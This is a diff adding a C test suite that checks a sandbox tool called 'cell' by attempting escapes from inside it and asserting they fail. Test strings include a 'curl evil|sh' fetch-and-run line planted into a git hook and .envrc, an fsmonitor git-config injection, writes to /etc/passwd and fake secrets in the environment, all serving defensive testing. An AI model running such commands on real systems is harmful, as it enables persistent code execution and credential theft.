@@ -1,0 +1,736 @@
+/* SPDX-License-Identifier: MIT */
+/*
+ * The escape suite: each case makes a real attempt from inside a real cell and asserts that it
+ * fails, and where it can, that the same attempt works outside (so the case can fail). Cells
+ * run as an unprivileged user: the caller, or when the suite runs as root (CI), the user
+ * "celltest", created if missing.
+ */
+#include <criterion/criterion.h>
+#include <criterion/new/assert.h>
+#include <errno.h>
+#include <netinet/in.h>
+#include <pwd.h>
+#include <signal.h>
+#include <stdarg.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include "fileio.h"
+#include "helpers.h"
+
+#define CELL CELL_TEST_BUILD "/cell"
+#define PROBE CELL_TEST_BUILD "/test-probe"
+#define TEST_USER "celltest"
+
+static const char default_config[] =
+	"{\"name\": \"esc\", \"network\": {\"mode\": \"none\"}}\n";
+
+static struct {
+	char *tmp, *home, *proj, *outside;
+	uid_t uid;
+	gid_t gid;
+	char *env[24];
+	size_t n_env;
+} t;
+
+static void env_add(const char *fmt, ...)
+{
+	va_list ap;
+
+	va_start(ap, fmt);
+	cr_assert(ge(int, vasprintf(&t.env[t.n_env++], fmt, ap), 0));
+	va_end(ap);
+	t.env[t.n_env] = NULL;
+}
+
+/* CI runs as root: the cells run as TEST_USER, made here if the Makefile did not make it. */
+static void find_user(void)
+{
+	struct passwd *pw;
+
+	if (geteuid() != 0) {
+		t.uid = getuid();
+		t.gid = getgid();
+		return;
+	}
+	for (int i = 0; i < 50 && !(pw = getpwnam(TEST_USER)); i++) {
+		char *argv[] = {(char *)"/usr/sbin/useradd", (char *)"--create-home",
+				(char *)"--shell", (char *)"/bin/bash", (char *)TEST_USER, NULL};
+		struct th_result r;
+
+		th_run(NULL, argv, (char *[]){NULL}, &r);
+		th_result_done(&r);
+		/* parallel tests may race on the user database; the loser tries again */
+		if (!getpwnam(TEST_USER))
+			usleep(100000);
+	}
+	pw = getpwnam(TEST_USER);
+	cr_assert(not(eq(ptr, pw, NULL)), "cannot create the test user " TEST_USER);
+	t.uid = pw->pw_uid;
+	t.gid = pw->pw_gid;
+}
+
+static void allow(void)
+{
+	char *argv[] = {(char *)CELL, (char *)"allow", NULL};
+	struct th_result r;
+
+	th_run_as(t.uid, t.gid, t.proj, argv, t.env, &r);
+	cr_assert(eq(int, r.status, 0), "cell allow: %s", r.err);
+	th_result_done(&r);
+}
+
+static void set_config(const char *json)
+{
+	free(th_write(t.proj, ".cell.json", json));
+	th_chown_r(t.proj, t.uid, t.gid);
+	allow();
+}
+
+static void setup(void)
+{
+	char *probe, *text;
+
+	memset(&t, 0, sizeof(t));
+	find_user();
+	t.tmp = th_mkdtemp();
+	chmod(t.tmp, 0755);
+	t.home = th_join(t.tmp, "home");
+	t.proj = th_join(t.tmp, "proj");
+	t.outside = th_join(t.tmp, "outside");
+	free(th_write(t.home, ".ssh/id_ed25519", "FAKE PRIVATE KEY\n"));
+	free(th_write(t.home, ".bashrc", "# the user's bashrc\n"));
+	free(th_write(t.home, ".gitconfig", "[user]\n\tname = Test\n"));
+	free(th_write(t.proj, ".git/hooks/README", "hooks\n"));
+	free(th_write(t.proj, ".git/config", "[core]\n\tbare = false\n"));
+	free(th_write(t.proj, "src/main.c", "int main(void) { return 0; }\n"));
+	free(th_write(t.outside, "note", "outside\n"));
+	cell_read_file(PROBE, 0, CELL_FILE_MAX, &text, NULL);
+	cr_assert(not(eq(ptr, text, NULL)), "no probe at " PROBE);
+	free(text);
+	/* the probe must be inside the project to be visible in the cell */
+	probe = th_join(t.proj, "probe");
+	{
+		char *argv[] = {(char *)"/bin/cp", (char *)PROBE, probe, NULL};
+		struct th_result r;
+
+		th_run(NULL, argv, (char *[]){NULL}, &r);
+		cr_assert(eq(int, r.status, 0));
+		th_result_done(&r);
+	}
+	free(probe);
+	free(th_write(t.proj, ".cell.json", default_config));
+	th_chown_r(t.tmp, t.uid, t.gid);
+
+	env_add("HOME=%s", t.home);
+	env_add("USER=%s", geteuid() == 0 ? TEST_USER : getpwuid(getuid())->pw_name);
+	env_add("PATH=/usr/local/bin:/usr/bin:/bin");
+	env_add("LANG=C.UTF-8");
+	env_add("XDG_CONFIG_HOME=%s/.config", t.home);
+	env_add("XDG_DATA_HOME=%s/.local/share", t.home);
+	env_add("XDG_STATE_HOME=%s/.local/state", t.home);
+	env_add("AWS_SECRET_ACCESS_KEY=not-a-real-secret");
+	env_add("GITHUB_TOKEN=ghp_not_real");
+	env_add("SSH_AUTH_SOCK=/tmp/ssh-agent.sock");
+	env_add("EDITOR=vi");
+	allow();
+}
+
+static void teardown(void)
+{
+	for (size_t i = 0; i < t.n_env; i++)
+		free(t.env[i]);
+	th_rm_rf(t.tmp);
+	free(t.tmp);
+	free(t.home);
+	free(t.proj);
+	free(t.outside);
+}
+
+TestSuite(escape, .init = setup, .fini = teardown, .timeout = 60);
+
+/* sh -c SCRIPT inside the project's cell, as the test user, from dir (relative to proj). */
+static struct th_result in_cell_at(const char *dir, const char *script)
+{
+	char *cwd = dir ? th_join(t.proj, dir) : strdup(t.proj);
+	char *argv[] = {(char *)CELL, (char *)"run", (char *)"--", (char *)"/bin/sh", (char *)"-c",
+			(char *)script, NULL};
+	struct th_result r;
+
+	th_run_as(t.uid, t.gid, cwd, argv, t.env, &r);
+	free(cwd);
+	return r;
+}
+
+static struct th_result in_cell(const char *script)
+{
+	return in_cell_at(NULL, script);
+}
+
+/* The same script, outside any cell: the positive control. */
+static struct th_result outside(const char *script)
+{
+	char *argv[] = {(char *)"/bin/sh", (char *)"-c", (char *)script, NULL};
+	struct th_result r;
+
+	th_run_as(t.uid, t.gid, t.proj, argv, t.env, &r);
+	return r;
+}
+
+static void expect(struct th_result r, int status, const char *out)
+{
+	cr_assert(eq(int, r.status, status), "status %d, stdout '%s', stderr '%s'", r.status, r.out,
+		  r.err);
+	if (out)
+		cr_assert(eq(str, r.out, (char *)out), "stderr: %s", r.err);
+	th_result_done(&r);
+}
+
+/* The probe inside the cell fails with errno_name; outside, it does not fail that way. */
+static void probe_blocked(const char *what, const char *errno_name)
+{
+	char script[128], want[64];
+	struct th_result in, out;
+
+	snprintf(script, sizeof(script), "./probe %s", what);
+	snprintf(want, sizeof(want), "errno=%s\n", errno_name);
+	in = in_cell(script);
+	out = outside(script);
+	cr_assert(eq(str, in.out, want), "inside: %s %s", in.out, in.err);
+	cr_assert(ne(str, out.out, want), "outside fails the same way, so this proves nothing");
+	th_result_done(&in);
+	th_result_done(&out);
+}
+
+static bool host_has(const char *rel)
+{
+	char *p = th_join(t.tmp, rel);
+	bool r = access(p, F_OK) == 0;
+
+	free(p);
+	return r;
+}
+
+static char *host_read(const char *rel)
+{
+	char *p = th_join(t.tmp, rel), *s = th_read(p);
+
+	free(p);
+	return s;
+}
+
+Test(escape, ssh_key_in_the_real_home_is_invisible)
+{
+	char script[256];
+
+	snprintf(script, sizeof(script), "cat %s/.ssh/id_ed25519", t.home);
+	expect(outside(script), 0, "FAKE PRIVATE KEY\n");
+	expect(in_cell(script), 1, "");
+}
+
+Test(escape, home_is_private_but_rc_files_are_there_read_only)
+{
+	char script[512];
+
+	snprintf(script, sizeof(script),
+		 "ls -A %s | sort | tr '\\n' ' '; cat %s/.gitconfig | head -1; echo x >> %s/.bashrc",
+		 t.home, t.home, t.home);
+	expect(in_cell(script), 2, ".bashrc .gitconfig [user]\n");
+}
+
+Test(escape, writes_outside_the_project_never_reach_the_host)
+{
+	char script[512];
+
+	snprintf(script, sizeof(script),
+		 "mkdir -p %s && echo evil > %s/note2; echo evil > %s/planted; echo done",
+		 t.outside, t.outside, t.home);
+	expect(in_cell(script), 0, "done\n");
+	cr_assert(not(host_has("outside/note2")));
+	cr_assert(not(host_has("home/planted")));
+	expect(outside(script), 0, "done\n");
+	cr_assert(host_has("outside/note2"));
+}
+
+Test(escape, system_is_read_only)
+{
+	char *s;
+
+	/* a user gets EACCES before EROFS here, so the mount itself is checked too */
+	expect(in_cell("echo evil >> /etc/passwd"), 2, "");
+	s = th_read("/etc/passwd");
+	cr_assert(eq(ptr, strstr(s, "evil"), NULL));
+	free(s);
+	expect(in_cell("awk '$5 == \"/etc\" || $5 == \"/usr\" { print $5, substr($6, 1, 2) }' "
+		       "/proc/self/mountinfo"),
+	       0, "/usr ro\n/etc ro\n");
+	expect(in_cell("touch /usr/evil 2>&1 | grep -o 'Read-only file system'"), 0,
+	       "Read-only file system\n");
+}
+
+Test(escape, project_is_writable_and_visible_outside)
+{
+	char *s;
+
+	expect(in_cell("echo built > src/out.txt && cat src/out.txt"), 0, "built\n");
+	s = host_read("proj/src/out.txt");
+	cr_assert(eq(str, s, "built\n"));
+	free(s);
+}
+
+Test(escape, git_hook_cannot_be_planted)
+{
+	expect(outside("echo ok > .git/hooks/probe-write && rm .git/hooks/probe-write && echo ok"), 0,
+	       "ok\n");
+	expect(in_cell("echo 'curl evil|sh' > .git/hooks/post-checkout"), 2, "");
+	cr_assert(not(host_has("proj/.git/hooks/post-checkout")));
+}
+
+Test(escape, git_hook_cannot_be_planted_where_no_hooks_dir_exists)
+{
+	char *hooks = th_join(t.proj, ".git/hooks");
+
+	th_rm_rf(hooks);
+	expect(in_cell("mkdir -p .git/hooks; echo evil > .git/hooks/post-checkout"), 2, "");
+	cr_assert(not(host_has("proj/.git/hooks/post-checkout")));
+	free(hooks);
+}
+
+Test(escape, git_config_cannot_gain_an_fsmonitor)
+{
+	char *s;
+
+	expect(in_cell("printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config"), 2, "");
+	s = host_read("proj/.git/config");
+	cr_assert(eq(str, s, "[core]\n\tbare = false\n"));
+	free(s);
+}
+
+Test(escape, cell_json_cannot_be_changed_or_replaced)
+{
+	char *s;
+
+	expect(in_cell("echo '{}' > .cell.json"), 2, "");
+	expect(in_cell("rm -f .cell.json || mv .cell.json x"), 1, "");
+	s = host_read("proj/.cell.json");
+	cr_assert(eq(str, s, (char *)default_config));
+	free(s);
+}
+
+Test(escape, envrc_and_editor_settings_stay_read_only)
+{
+	free(th_write(t.proj, ".envrc", "use nix\n"));
+	free(th_write(t.proj, ".vscode/settings.json", "{}\n"));
+	free(th_write(t.proj, ".idea/workspace.xml", "<x/>\n"));
+	th_chown_r(t.proj, t.uid, t.gid);
+	expect(in_cell("echo 'curl evil|sh' >> .envrc"), 2, "");
+	expect(in_cell("echo '{\"tasks\": 1}' > .vscode/tasks.json"), 2, "");
+	expect(in_cell("echo x > .idea/workspace.xml"), 2, "");
+	cr_assert(not(host_has("proj/.vscode/tasks.json")));
+}
+
+Test(escape, outer_processes_are_invisible)
+{
+	char *argv[] = {(char *)"/bin/sleep", (char *)"31337", NULL};
+	pid_t pid = th_spawn_as(t.uid, t.gid, NULL, argv, t.env);
+	struct th_result grep, ps;
+
+	/* "3133[7]" does not match the script's own command line */
+	grep = in_cell("grep -l '3133[7]' /proc/[0-9]*/cmdline 2>/dev/null | grep -v self; echo none");
+	/* ps alone, so the pipeline's other processes are not in the picture */
+	ps = in_cell("ps -e -o comm= > /tmp/ps; sort /tmp/ps | tr '\\n' ' '");
+	kill(pid, SIGKILL);
+	waitpid(pid, NULL, 0);
+	expect(grep, 0, "none\n");
+	expect(ps, 0, "init ps sh ");
+}
+
+Test(escape, ptrace_reaches_only_the_cells_own_processes)
+{
+	char *argv[] = {(char *)"/bin/sleep", (char *)"31338", NULL};
+	pid_t pid = th_spawn_as(t.uid, t.gid, NULL, argv, t.env);
+	struct th_result in, out;
+	char script[64];
+
+	snprintf(script, sizeof(script), "./probe ptrace %d", (int)pid);
+	out = outside(script);
+	in = in_cell(script);
+	kill(pid, SIGKILL);
+	waitpid(pid, NULL, 0);
+	expect(out, 0, "ok\n");
+	expect(in, 1, "errno=ESRCH\n");
+	/* gdb and strace keep working on the cell's own processes */
+	expect(in_cell("./probe ptrace-child"), 0, "ok\n");
+}
+
+Test(escape, tiocsti_cannot_type_into_the_terminal)
+{
+	probe_blocked("tiocsti", "EPERM");
+}
+
+Test(escape, no_nested_user_namespace)
+{
+	probe_blocked("unshare-user", "EPERM");
+	expect(in_cell("unshare -U true 2>/dev/null || echo refused"), 0, "refused\n");
+}
+
+Test(escape, nested_user_namespace_when_the_config_allows_it)
+{
+	set_config("{\"hardening\": {\"allow_userns\": true}}");
+	expect(in_cell("./probe unshare-user"), 0, "ok\n");
+}
+
+Test(escape, no_kernel_keyrings)
+{
+	probe_blocked("keyctl", "EPERM");
+}
+
+Test(escape, the_i386_syscall_gate_is_filtered_too)
+{
+	struct th_result out = outside("./probe keyctl32");
+
+	if (out.status != 0) {
+		th_result_done(&out);
+		th_skip("this kernel has no i386 system call gate (no IA32 emulation)");
+	}
+	th_result_done(&out);
+	expect(in_cell("./probe keyctl32"), 1, "errno=EPERM\n");
+}
+
+Test(escape, no_bpf_perf_or_userfaultfd)
+{
+	probe_blocked("bpf", "EPERM");
+	probe_blocked("perf", "EPERM");
+	probe_blocked("userfaultfd", "EPERM");
+}
+
+Test(escape, io_uring_only_when_allowed)
+{
+	probe_blocked("io_uring", "EPERM");
+	set_config("{\"hardening\": {\"allow_io_uring\": true}}");
+	expect(in_cell("./probe io_uring"), 0, "ok\n");
+}
+
+Test(escape, secrets_in_the_environment_stay_out)
+{
+	expect(in_cell("env | grep -E '^(AWS_SECRET_ACCESS_KEY|GITHUB_TOKEN|SSH_AUTH_SOCK)=' ; echo $EDITOR $CELL_NAME"),
+	       0, "vi esc\n");
+	set_config("{\"name\": \"esc\", \"env\": {\"pass\": [\"GITHUB_TOKEN\"], \"set\": {\"MODE\": \"dev\"}}}");
+	expect(in_cell("echo $GITHUB_TOKEN $MODE $AWS_SECRET_ACCESS_KEY"), 0, "ghp_not_real dev\n");
+}
+
+Test(escape, cell_variables_are_set)
+{
+	char want[512];
+	struct th_result r = in_cell("echo \"$CELL_NAME|$CELL_ROOT|$HOME|$(hostname)\"; echo $CELL_ID");
+
+	snprintf(want, sizeof(want), "esc|%s|%s|cell-esc\nproj-", t.proj, t.home);
+	cr_assert(eq(int, strncmp(r.out, want, strlen(want)), 0), "%s", r.out);
+	th_result_done(&r);
+}
+
+Test(escape, setuid_binaries_gain_nothing)
+{
+	char *suid;
+
+	if (geteuid() != 0)
+		th_skip("making a setuid-root binary needs root");
+	suid = th_join(t.proj, "suid-probe");
+	{
+		char *argv[] = {(char *)"/bin/cp", (char *)PROBE, suid, NULL};
+		struct th_result r;
+
+		th_run(NULL, argv, (char *[]){NULL}, &r);
+		th_result_done(&r);
+	}
+	cr_assert(eq(int, chown(suid, 0, 0), 0));
+	cr_assert(eq(int, chmod(suid, 04755), 0));
+	expect(outside("./suid-probe euid"), 0, "euid=0\n");
+	expect(in_cell("./suid-probe euid; grep NoNewPrivs /proc/self/status | tr -d '\\t'"), 0,
+	       NULL);
+	{
+		struct th_result r = in_cell("./suid-probe euid");
+
+		cr_assert(ne(str, r.out, "euid=0\n"));
+		th_result_done(&r);
+	}
+	expect(in_cell("grep NoNewPrivs /proc/self/status | tr -d '\\t'"), 0, "NoNewPrivs:1\n");
+	free(suid);
+}
+
+Test(escape, outer_tmp_is_invisible)
+{
+	char name[64], script[128];
+	FILE *f;
+
+	snprintf(name, sizeof(name), "/tmp/cell-outer-%d", (int)getpid());
+	f = fopen(name, "w");
+	cr_assert(not(eq(ptr, f, NULL)));
+	fputs("secret\n", f);
+	fclose(f);
+	chmod(name, 0644);
+	snprintf(script, sizeof(script), "cat %s", name);
+	expect(outside(script), 0, "secret\n");
+	expect(in_cell(script), 1, "");
+	unlink(name);
+}
+
+Test(escape, no_network_in_none_mode)
+{
+	struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
+	socklen_t len = sizeof(a);
+	int fd = socket(AF_INET, SOCK_STREAM, 0);
+	char script[64];
+
+	cr_assert(eq(int, bind(fd, (struct sockaddr *)&a, sizeof(a)), 0));
+	cr_assert(eq(int, listen(fd, 4), 0));
+	getsockname(fd, (struct sockaddr *)&a, &len);
+	snprintf(script, sizeof(script), "./probe connect %d", ntohs(a.sin_port));
+	expect(outside(script), 0, "ok\n");
+	expect(in_cell(script), 1, "errno=ECONNREFUSED\n");
+	expect(in_cell("ls /sys/class/net 2>/dev/null || cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' '"),
+	       0, "lo\n");
+	close(fd);
+}
+
+Test(escape, no_mounts_and_no_capabilities_even_with_overlays)
+{
+	free(th_write(t.tmp, "lower/file", "lower\n"));
+	th_chown_r(t.tmp, t.uid, t.gid);
+	{
+		char json[512];
+
+		snprintf(json, sizeof(json),
+			 "{\"mounts\": [{\"path\": \"%s/lower\", \"dest\": \"%s/lower\", \"mode\": \"overlay\"}]}",
+			 t.tmp, t.home);
+		set_config(json);
+	}
+	expect(in_cell("./probe mount; ./probe remount-usr; grep -E '^Cap(Eff|Prm|Bnd)' /proc/self/status | tr -d '\\t'"),
+	       0,
+	       "errno=EPERM\nerrno=EPERM\nCapPrm:0000000000000000\nCapEff:0000000000000000\nCapBnd:0000000000000000\n");
+}
+
+Test(escape, state_mount_persists_across_cells)
+{
+	char json[256], script[256];
+
+	snprintf(json, sizeof(json), "{\"mounts\": [{\"path\": \"~/.cache/tool\", \"mode\": \"state\"}]}");
+	set_config(json);
+	snprintf(script, sizeof(script), "echo run >> %s/.cache/tool/log; cat %s/.cache/tool/log", t.home,
+		 t.home);
+	expect(in_cell(script), 0, "run\n");
+	expect(in_cell(script), 0, "run\nrun\n");
+	/* the real ~/.cache/tool is not where it went */
+	cr_assert(not(host_has("home/.cache/tool/log")));
+}
+
+Test(escape, overlay_writes_never_reach_the_source)
+{
+	char json[512], script[512], *s;
+
+	free(th_write(t.tmp, "shared/lib.txt", "original\n"));
+	th_chown_r(t.tmp, t.uid, t.gid);
+	snprintf(json, sizeof(json), "{\"mounts\": [{\"path\": \"%s/shared\", \"mode\": \"overlay\"}]}",
+		 t.tmp);
+	set_config(json);
+	snprintf(script, sizeof(script),
+		 "echo patched > %s/shared/lib.txt; echo new > %s/shared/new.txt; cat %s/shared/lib.txt",
+		 t.tmp, t.tmp, t.tmp);
+	expect(in_cell(script), 0, "patched\n");
+	s = host_read("shared/lib.txt");
+	cr_assert(eq(str, s, "original\n"));
+	free(s);
+	cr_assert(not(host_has("shared/new.txt")));
+	/* the upper layer is kept between cells */
+	snprintf(script, sizeof(script), "cat %s/shared/lib.txt %s/shared/new.txt", t.tmp, t.tmp);
+	expect(in_cell(script), 0, "patched\nnew\n");
+}
+
+Test(escape, ephemeral_overlay_forgets)
+{
+	char json[512], script[512];
+
+	free(th_write(t.tmp, "shared/lib.txt", "original\n"));
+	th_chown_r(t.tmp, t.uid, t.gid);
+	snprintf(json, sizeof(json),
+		 "{\"mounts\": [{\"path\": \"%s/shared\", \"mode\": \"overlay\", \"ephemeral\": true}]}",
+		 t.tmp);
+	set_config(json);
+	snprintf(script, sizeof(script), "cat %s/shared/lib.txt; echo patched > %s/shared/lib.txt",
+		 t.tmp, t.tmp);
+	expect(in_cell(script), 0, "original\n");
+	expect(in_cell(script), 0, "original\n");
+}
+
+Test(escape, tmpfs_hides_the_hosts_directory)
+{
+	char *s;
+
+	free(th_write(t.proj, "target/stale.o", "host build\n"));
+	th_chown_r(t.proj, t.uid, t.gid);
+	set_config("{\"mounts\": [{\"path\": \"./target\", \"mode\": \"tmpfs\"}]}");
+	expect(in_cell("ls -A target; echo fresh > target/new.o; cat target/new.o"), 0, "fresh\n");
+	cr_assert(not(host_has("proj/target/new.o")));
+	s = host_read("proj/target/stale.o");
+	cr_assert(eq(str, s, "host build\n"));
+	free(s);
+}
+
+Test(escape, read_only_and_read_write_mounts)
+{
+	char json[512], script[512];
+
+	free(th_write(t.tmp, "data/in.txt", "data\n"));
+	free(th_write(t.tmp, "out/keep", ""));
+	th_chown_r(t.tmp, t.uid, t.gid);
+	snprintf(json, sizeof(json),
+		 "{\"mounts\": [{\"path\": \"%s/data\"}, {\"path\": \"%s/out\", \"mode\": \"rw\"}, "
+		 "{\"path\": \"%s/absent\", \"optional\": true}]}",
+		 t.tmp, t.tmp, t.tmp);
+	set_config(json);
+	snprintf(script, sizeof(script), "cat %s/data/in.txt; echo x > %s/out/result; echo y > %s/data/in.txt",
+		 t.tmp, t.tmp, t.tmp);
+	expect(in_cell(script), 2, "data\n");
+	cr_assert(host_has("out/result"));
+}
+
+Test(escape, a_missing_source_stops_the_cell_before_it_starts)
+{
+	char json[512];
+	struct th_result r;
+
+	snprintf(json, sizeof(json), "{\"mounts\": [{\"path\": \"%s/absent\"}]}", t.tmp);
+	set_config(json);
+	r = in_cell("echo started > started");
+	cr_assert(eq(int, r.status, 2), "%s", r.err);
+	cr_assert(not(eq(ptr, strstr(r.err, "absent' does not exist"), NULL)), "%s", r.err);
+	cr_assert(not(host_has("proj/started")));
+	th_result_done(&r);
+}
+
+Test(escape, two_mounts_at_one_place_are_an_error_naming_both)
+{
+	struct th_result r;
+
+	set_config("{\"mounts\": [{\"path\": \"./a\", \"dest\": \"/opt/x\", \"optional\": true, \"mode\": \"tmpfs\"}, "
+		   "{\"path\": \"/usr\", \"dest\": \"/opt/x\"}]}");
+	r = in_cell("true");
+	cr_assert(eq(int, r.status, 2));
+	cr_assert(not(eq(ptr, strstr(r.err, ".cell.json: mounts[0] and "), NULL)), "%s", r.err);
+	cr_assert(not(eq(ptr, strstr(r.err, ".cell.json: mounts[1] both mount '/opt/x'"), NULL)), "%s",
+		  r.err);
+	th_result_done(&r);
+}
+
+Test(escape, exit_status_is_the_commands)
+{
+	expect(in_cell("exit 7"), 7, "");
+	expect(in_cell("kill -KILL $$"), 137, "");
+	expect(in_cell("exec ./no-such-program"), 127, "");
+}
+
+Test(escape, working_directory_is_kept)
+{
+	char want[512];
+
+	cr_assert(eq(int, cell_mkdir_p(t.proj, 0755), 0));
+	free(th_write(t.proj, "src/deep/dir/.keep", ""));
+	th_chown_r(t.proj, t.uid, t.gid);
+	snprintf(want, sizeof(want), "%s/src/deep/dir\n", t.proj);
+	expect(in_cell_at("src/deep/dir", "pwd"), 0, want);
+}
+
+Test(escape, sigterm_reaches_the_command)
+{
+	char *ready = th_join(t.proj, "ready"), *got;
+	char *argv[] = {(char *)CELL, (char *)"run", (char *)"--", (char *)"/bin/sh", (char *)"-c",
+			(char *)"trap 'echo TERM > got; exit 3' TERM; echo > ready; "
+				"while :; do sleep 0.1; done",
+			NULL};
+	pid_t pid = th_spawn_as(t.uid, t.gid, t.proj, argv, t.env);
+	int status;
+
+	cr_assert(th_wait_for_file(ready, 20), "the cell did not start");
+	kill(pid, SIGTERM);
+	waitpid(pid, &status, 0);
+	cr_assert(eq(int, WIFEXITED(status) ? 1 : 0, 1));
+	cr_assert(eq(int, WEXITSTATUS(status), 3));
+	got = host_read("proj/got");
+	cr_assert(eq(str, got, "TERM\n"));
+	free(got);
+	free(ready);
+}
+
+Test(escape, paths_with_spaces_and_quotes)
+{
+	char *dir = th_join(t.tmp, "it's a \"project\" -x");
+	char *argv[] = {(char *)CELL, (char *)"run", (char *)"--", (char *)"/bin/sh", (char *)"-c",
+			(char *)"pwd; echo ok > 'out file'", NULL};
+	char *allow[] = {(char *)CELL, (char *)"allow", NULL};
+	char want[512];
+	struct th_result r;
+
+	free(th_write(dir, ".cell.json", "{\"name\": \"odd\"}"));
+	th_chown_r(t.tmp, t.uid, t.gid);
+	th_run_as(t.uid, t.gid, dir, allow, t.env, &r);
+	cr_assert(eq(int, r.status, 0), "%s", r.err);
+	th_result_done(&r);
+	th_run_as(t.uid, t.gid, dir, argv, t.env, &r);
+	snprintf(want, sizeof(want), "%s\n", dir);
+	cr_assert(eq(int, r.status, 0), "%s", r.err);
+	cr_assert(eq(str, r.out, want));
+	th_result_done(&r);
+	cr_assert(host_has("it's a \"project\" -x/out file"));
+	free(dir);
+}
+
+Test(escape, an_untrusted_config_never_runs)
+{
+	struct th_result r;
+
+	free(th_write(t.proj, ".cell.json", "{\"name\": \"changed\"}"));
+	th_chown_r(t.proj, t.uid, t.gid);
+	r = in_cell("echo ran > ran");
+	cr_assert(eq(int, r.status, 1));
+	cr_assert(not(eq(ptr, strstr(r.err, ".cell.json is not allowed; run 'cell allow "), NULL)));
+	cr_assert(not(host_has("proj/ran")));
+	th_result_done(&r);
+}
+
+Test(escape, root_is_refused_without_a_user_and_dropped_with_one)
+{
+	char *refuse[] = {(char *)CELL, (char *)"run", (char *)"--", (char *)"id", (char *)"-u", NULL};
+	char *as_user[] = {(char *)CELL, (char *)"run",	(char *)"--user", (char *)TEST_USER,
+			   (char *)"--", (char *)"id",	(char *)"-u", NULL};
+	char *user_home_env[4] = {NULL}, want[32];
+	struct th_result r;
+
+	if (geteuid() != 0)
+		th_skip("the root rule needs root");
+	th_run(t.proj, refuse, t.env, &r);
+	cr_assert(eq(int, r.status, 1));
+	cr_assert(eq(str, r.err, "cell: refusing to run a cell as root; name its user with --user NAME (or pass --allow-root)\n"));
+	th_result_done(&r);
+
+	/* as the user, with the user's own home: allow there, then run from root with --user */
+	cr_assert(ge(int, asprintf(&user_home_env[0], "HOME=%s", getpwnam(TEST_USER)->pw_dir), 0));
+	user_home_env[1] = (char *)"PATH=/usr/bin:/bin";
+	{
+		char *allow[] = {(char *)CELL, (char *)"allow", NULL};
+
+		th_run_as(t.uid, t.gid, t.proj, allow, user_home_env, &r);
+		cr_assert(eq(int, r.status, 0), "%s", r.err);
+		th_result_done(&r);
+	}
+	th_run(t.proj, as_user, t.env, &r);
+	snprintf(want, sizeof(want), "%u\n", (unsigned)t.uid);
+	cr_assert(eq(int, r.status, 0), "%s", r.err);
+	cr_assert(eq(str, r.out, want));
+	th_result_done(&r);
+	free(user_home_env[0]);
+}
